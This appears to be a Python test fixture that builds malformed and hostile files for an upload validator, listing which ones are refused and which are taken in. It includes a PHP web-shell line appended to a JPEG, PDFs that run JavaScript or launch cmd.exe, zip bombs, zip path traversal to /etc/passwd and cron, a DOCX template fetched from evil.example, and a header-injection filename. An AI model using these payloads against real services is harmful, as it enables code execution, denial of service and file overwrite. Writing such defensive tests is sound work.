"""Hostile and broken files, built by code: (name, bytes, whether it is refused). None is kept in the repository."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

import pikepdf
from PIL import Image

from tests.sound import box, mp4_bytes, office_bytes, pdf_bytes, picture_bytes, zip_bytes

Build = Callable[[], bytes]


def _pdf(*things: bytes, root: bytes = b"<< /Type /Catalog /Pages 2 0 R >>", pages: bytes = b"") -> bytes:
    """A PDF of raw objects; the first two are the catalogue and the page tree."""
    tree = pages or b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
    every = [root, tree, *(things or (page,))]
    body, places = b"%PDF-1.7\n", []
    for number, thing in enumerate(every, start=1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, thing)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(every) + 1
    end = b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, len(body))
    return body + b"xref\n0 %d\n0000000000 65535 f \n" % size + table + end


_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"


def _stream(data: bytes, head: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), head, data)


def _saved(change: Callable[[pikepdf.Pdf], None], **how: object) -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    change(document)
    out = io.BytesIO()
    document.save(out, **how)  # type: ignore[arg-type]
    return out.getvalue()


def _locked() -> bytes:
    return _saved(lambda _: None, encryption=pikepdf.Encryption(owner="o", user="u"))


def _attached() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.attachments["账.xlsx"] = b"PK\x03\x04"

    return _saved(change)


def _many_pages() -> bytes:
    document = pikepdf.new()
    for _ in range(1001):
        document.add_blank_page(page_size=(10, 10))
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _png(width: int, height: int, data: bytes = b"", *extra: bytes) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(extra) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def _animated() -> bytes:
    out = io.BytesIO()
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("red", "blue", "white")]
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


def _bomb(megabytes: int, files: int = 1) -> bytes:
    return zip_bytes({f"{number}.txt": b"\0" * (megabytes * 1024 * 1024) for number in range(files)})


def _lying_size() -> bytes:
    """The listing says one byte; much more comes out."""
    data = bytearray(zip_bytes({"a.txt": b"x" * 100_000}))
    at = data.rfind(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<I", 1)
    return bytes(data)


def _overlapping() -> bytes:
    """Two entries of the listing that are the same bytes."""
    data = zip_bytes({"a.txt": b"x" * 1000})
    at, end = data.rfind(b"PK\x01\x02"), data.rfind(b"PK\x05\x06")
    entry = data[at:end]
    listing = entry * 40
    tail = bytearray(data[end:])
    tail[8:12] = struct.pack("<HH", 40, 40)
    tail[12:16] = struct.pack("<I", len(listing))
    return data[:at] + listing + bytes(tail)


def _named(*names: str, link: bool = False, gbk: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for number, name in enumerate(names):
            entry = zipfile.ZipInfo(f"{number:0{len(name.encode('gbk'))}d}" if gbk else name)
            if link:
                entry.external_attr = 0o120777 << 16
            archive.writestr(entry, "x")
    data = out.getvalue()
    if gbk:
        for number, name in enumerate(names):
            raw = name.encode("gbk")
            data = data.replace(f"{number:0{len(raw)}d}".encode(), raw)
    return data


def _locked_zip() -> bytes:
    data = bytearray(zip_bytes({"a.txt": b"x"}))
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.find(sign) + place] |= 1
    return bytes(data)


def _word(**parts: bytes) -> bytes:
    return office_bytes("word/document.xml", **parts)


_OUTSIDE = (
    b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" '
    b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
_LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>'
_SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
_HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
_EXE = b"MZ\x90\x00" + b"\0" * 200

#: name of the case -> (file name, how to build it)
REFUSED: dict[str, tuple[str, Build]] = {
    "empty": ("空.pdf", lambda: b""),
    "one byte": ("a.pdf", lambda: b"%"),
    "head alone": ("a.pdf", lambda: b"%PDF-1.7"),
    "noise behind the head": ("a.pdf", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40),
    "pdf cut in half": ("a.pdf", lambda: _many_pages()[:4000]),
    "pdf without pages": ("a.pdf", lambda: _pdf(pages=b"<< /Type /Pages /Kids [] /Count 0 >>")),
    "pdf with too many pages": ("a.pdf", _many_pages),
    "pdf with a password": ("a.pdf", _locked),
    "pdf with JavaScript on opening": (
        "a.pdf",
        lambda: _pdf(
            root=b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"
        ),
    ),
    "pdf with JavaScript in an object": (
        "a.pdf",
        lambda: _pdf(_PAGE, b"<< /S /JavaScript /JS (app.alert(1)) >>"),
    ),
    "pdf with named JavaScript": (
        "a.pdf",
        lambda: _pdf(
            root=b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >> >>"
        ),
    ),
    "pdf that launches a program": (
        "a.pdf",
        lambda: _pdf(_PAGE, b"<< /S /Launch /F (cmd.exe) >>"),
    ),
    "pdf that launches from a page": (
        "a.pdf",
        lambda: _pdf(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /AA << /O << /S /Launch /F (a) >> >> >>"
        ),
    ),
    "pdf with a file inside": ("a.pdf", _attached),
    "pdf with a rich media note": ("a.pdf", lambda: _pdf(_PAGE, b"<< /Type /Annot /Subtype /RichMedia >>")),
    "pdf with an XFA form": ("a.pdf", lambda: _pdf(_PAGE, b"<< /XFA (x) /Fields [] >>")),
    "pdf whose page tree is a circle": (
        "a.pdf",
        lambda: _pdf(pages=b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"),
    ),
    "pdf whose page tree is two circles": (
        "a.pdf",
        lambda: _pdf(
            b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 2 >>",
            pages=b"<< /Type /Pages /Kids [3 0 R 3 0 R] /Count 2000000 >>",
        ),
    ),
    "pdf and archive in one": ("a.pdf", lambda: pdf_bytes() + zip_bytes({"a.exe": _EXE})),
    "page named pdf": ("a.pdf", lambda: _HTML),
    "drawing named pdf": ("a.pdf", lambda: _SVG),
    "program named pdf": ("a.pdf", lambda: _EXE),
    "word named pdf": ("a.pdf", _word),
    "drawing named png": ("a.png", lambda: _SVG),
    "page named jpg": ("a.jpg", lambda: _HTML),
    "animation named png": ("a.png", lambda: b"GIF89a" + b"\0" * 50),
    "pdf named png": ("a.png", pdf_bytes),
    "png with a huge claim": ("a.png", lambda: _png(60_000, 60_000, zlib.compress(b"\0" * 1000))),
    "png of one long line": ("a.png", lambda: _png(40_000, 1, zlib.compress(b"\0" * 120_001))),
    "name with a line break": ("a\r\nSet-Cookie: x=1.pdf", pdf_bytes),
    "png with a bomb of text": (
        "a.png",
        lambda: (
            picture_bytes()[:33]
            + (
                lambda body: (
                    struct.pack(">I", len(body))
                    + b"zTXt"
                    + body
                    + struct.pack(">I", zlib.crc32(b"zTXt" + body))
                )
            )(b"a\0\0" + zlib.compress(b"x" * 100_000_000))
            + picture_bytes()[33:]
        ),
    ),
    "png with a wrong sum": ("a.png", lambda: picture_bytes()[:-20] + b"\xff" * 20),
    "png cut off": ("a.png", lambda: picture_bytes(size=(200, 200))[:80]),
    "png that moves": ("a.png", _animated),
    "png with a script behind": ("a.png", lambda: picture_bytes() + b"<script>alert(1)</script>"),
    "png and archive in one": ("a.png", lambda: picture_bytes() + zip_bytes({"x.class": b"1"})),
    "jpg cut off": ("a.jpg", lambda: picture_bytes("JPEG", (300, 300))[:400]),
    "jpg of nothing": ("a.jpg", lambda: b"\xff\xd8\xff" + b"\0" * 40),
    "jpg with php behind": ("a.jpg", lambda: picture_bytes("JPEG") + b"<?php system($_GET[0]); ?>"),
    "jpg and archive in one": ("a.jpg", lambda: picture_bytes("JPEG") + zip_bytes({"a.txt": b"1"})),
    "jpg with a huge claim": (
        "a.jpg",
        lambda: (
            lambda data: (
                data[: data.find(b"\xff\xc0") + 5] + b"\xff\xdc\xff\xdc" + data[data.find(b"\xff\xc0") + 9 :]
            )
        )(picture_bytes("JPEG")),
    ),
    "zip bomb": ("a.zip", lambda: _bomb(60)),
    "zip bomb of many": ("a.zip", lambda: _bomb(8, 10)),
    "zip in a zip": ("a.zip", lambda: zip_bytes({"b.zip": zip_bytes({"c.txt": b"1"})})),
    "zip that lies about a size": ("a.zip", _lying_size),
    "zip whose entries overlap": ("a.zip", _overlapping),
    "zip with a password": ("a.zip", _locked_zip),
    "zip that climbs": ("a.zip", lambda: _named("../../etc/passwd")),
    "zip that climbs in Windows": ("a.zip", lambda: _named("..\\..\\a.txt")),
    "zip from the root": ("a.zip", lambda: _named("/etc/cron.d/x")),
    "zip from a drive": ("a.zip", lambda: _named("C:\\a.txt")),
    "zip with a link": ("a.zip", lambda: _named("link", link=True)),
    "zip with a program": ("a.zip", lambda: zip_bytes({"安装.exe": _EXE})),
    "zip with a page": ("a.zip", lambda: zip_bytes({"说明.html": _HTML})),
    "zip with too many files": ("a.zip", lambda: zip_bytes({f"{n}.txt": b"" for n in range(2001)})),
    "zip without files": ("a.zip", lambda: zip_bytes({})),
    "zip cut off": ("a.zip", lambda: zip_bytes({"a.txt": b"x" * 5000})[:-30]),
    "zip of noise": ("a.zip", lambda: b"PK\x03\x04" + bytes(range(256)) * 10),
    "word with macros": ("a.docx", lambda: _word(**{"word/vbaProject.bin": b"1"})),
    "word that says it has macros": (
        "a.docx",
        lambda: zip_bytes(
            {
                "[Content_Types].xml": b"application/vnd.ms-word.document.macroEnabled",
                "word/document.xml": b"<x/>",
            }
        ),
    ),
    "word that fetches a template": ("a.docx", lambda: _word(**{"word/_rels/settings.xml.rels": _OUTSIDE})),
    "word with a program inside": (
        "a.docx",
        lambda: _word(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf"}),
    ),
    "word that laughs": ("a.docx", lambda: _word(**{"word/styles.xml": _LAUGHS})),
    "word bomb": ("a.docx", lambda: _word(**{"word/media/a.bmp": b"\0" * 60_000_000})),
    "old word": ("a.docx", lambda: b"\xd0\xcf\x11\xe0" + b"\0" * 500),
    "word without a body": ("a.docx", lambda: zip_bytes({"[Content_Types].xml": b"", "word/x.xml": b""})),
    "video of noise": ("a.mp4", lambda: b"\0\0\0\x18ftypmp42" + bytes(range(256))),
    "video without contents": ("a.mp4", lambda: box(b"ftyp", b"isom") + box(b"mdat", b"x")),
    "video whose box is too long": (
        "a.mp4",
        lambda: mp4_bytes()[:-70] + struct.pack(">I", 2**31) + b"mdat" + b"x" * 60,
    ),
    "video whose box has no length": ("a.mp4", lambda: mp4_bytes() + struct.pack(">I", 4) + b"free"),
    "video of endless boxes": ("a.mp4", lambda: mp4_bytes() + box(b"free") * 10_100),
    "page behind a video's head": ("a.mp4", lambda: b"\0\0\0\x18ftyp" + _HTML),
    "program with two endings": ("a.pdf.exe", pdf_bytes),
    "name that runs backwards": ("a\u202efdp.exe", pdf_bytes),
    "name without an ending": ("材料", pdf_bytes),
}

#: What is odd and does no harm: taken in, under a name of its own, never shown as anything else.
TAKEN: dict[str, tuple[str, Build]] = {
    "pdf with words behind its end": ("a.pdf", lambda: pdf_bytes() + b"<html>"),
    "pdf whose drawing draws itself": (
        "a.pdf",
        lambda: _pdf(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Resources << /XObject << /X 4 0 R >> >> /Contents 5 0 R >>",
            _stream(
                b"/X Do",
                b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 4 0 R >> >>",
            ),
            _stream(b"/X Do"),
        ),
    ),
    "pdf with a bomb in a stream": (
        "a.pdf",
        lambda: _pdf(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
            _stream(zlib.compress(b"\0" * 100_000_000, 9), b"/Filter /FlateDecode"),
        ),
    ),
    "png that unpacks to more than its picture": (
        "a.png",
        lambda: _png(100, 100, zlib.compress(b"\0" * 100_000_000, 9)),
    ),
    "name that climbs": ("../../../etc/passwd.pdf", pdf_bytes),
    "name of a drive": ("C:\\windows\\a.pdf", pdf_bytes),
    "name of 300 characters": ("长" * 300 + ".pdf", pdf_bytes),
    "zip with Chinese names of Windows": ("a.zip", lambda: _named("说明文档", "模型数据", gbk=True)),
}


def cases() -> Iterator[tuple[str, str, Build, bool]]:
    """Name of the case, file name, builder, whether it is refused."""
    for title, (name, build) in REFUSED.items():
        yield title, name, build, True
    for title, (name, build) in TAKEN.items():
        yield title, name, build, False
